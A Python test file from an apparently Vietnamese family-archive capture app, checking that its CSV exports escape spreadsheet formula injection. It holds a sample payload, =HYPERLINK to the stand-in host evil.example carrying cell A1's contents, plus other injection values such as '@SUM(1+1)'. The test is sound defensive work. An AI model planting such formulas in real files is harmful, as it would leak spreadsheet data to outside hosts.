"""metadata.csv and rights.csv open in a spreadsheet at the command: a title the family or a
volunteer typed as =HYPERLINK(...) (or starting with + - @, a tab or a return) arrives as the
text it is, never as a formula the spreadsheet runs."""

from __future__ import annotations

import csv
import io
import os
import tarfile

import pyrage

from capture import consent, review, visits
from capture.consent import DrawnSignature, Scopes, Signer
from capture.visits import Household, ItemData, ItemKind, MartyrData
from sync import batch
from tests.sync.test_outbox import COORDINATOR, signed_in

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


def test_a_title_that_is_a_formula_reaches_metadata_csv_as_text(approved, tmp_path):
    operator = approved[0]
    path = operator.path
    operator.lock()
    with signed_in(path, ("lan", "mật khẩu của Lan")) as volunteer:
        visit_id = visits.create_visit(volunteer, Household(1, 4, contact_name="Gia đình"))
        visits.add(volunteer, visit_id, MartyrData("+Nguyễn Văn A"))
        item = visits.add(volunteer, visit_id, ItemData(ItemKind.LETTER, title=FORMULA,
                                                        description="@SUM(1+1)"))
        visits.add_page(volunteer, item, volunteer.store_bytes(os.urandom(2000)).name,
                        original_filename="thu.jpg")
        consent.record(volunteer, visit_id, Scopes(), Signer("Gia đình"),
                       DrawnSignature([[(1.0, 2.0, 0, 0.5)]], b"\x89PNG"))
        review.submit(volunteer, visit_id)
    with signed_in(path, COORDINATOR) as coordinator:
        review.approve(coordinator, visit_id)
    identity = pyrage.x25519.Identity.generate()
    out = tmp_path / "batch.age"
    with signed_in(path, ("tuan", "mật khẩu của tuan")) as again:
        batch.build(again, out, str(identity.to_public()))
    with tarfile.open(fileobj=io.BytesIO(pyrage.decrypt(out.read_bytes(), [identity]))) as tar:
        names = {n.split("/", 1)[1]: n for n in tar.getnames() if "/" in n}
        sheets = {name: tar.extractfile(names[f"metadata/{name}"]).read().decode()
                  for name in ("metadata.csv", "rights.csv")}
    rows = list(csv.DictReader(io.StringIO(sheets["metadata.csv"])))
    mine = [r for r in rows if FORMULA in r["dc.title"]]
    assert mine and all(r["dc.title"] == f"'{FORMULA} — 1" for r in mine)
    assert all(r["dc.description"] == "'@SUM(1+1)" for r in mine)
    assert all(r["dc.subject"].startswith("'+") for r in mine)
    for text in sheets.values():
        for row in csv.reader(io.StringIO(text)):
            assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Nothing else changes: an ordinary cell is as it was.
    assert any(r["dc.rights"] == "Family consent: see rights.csv" for r in rows)
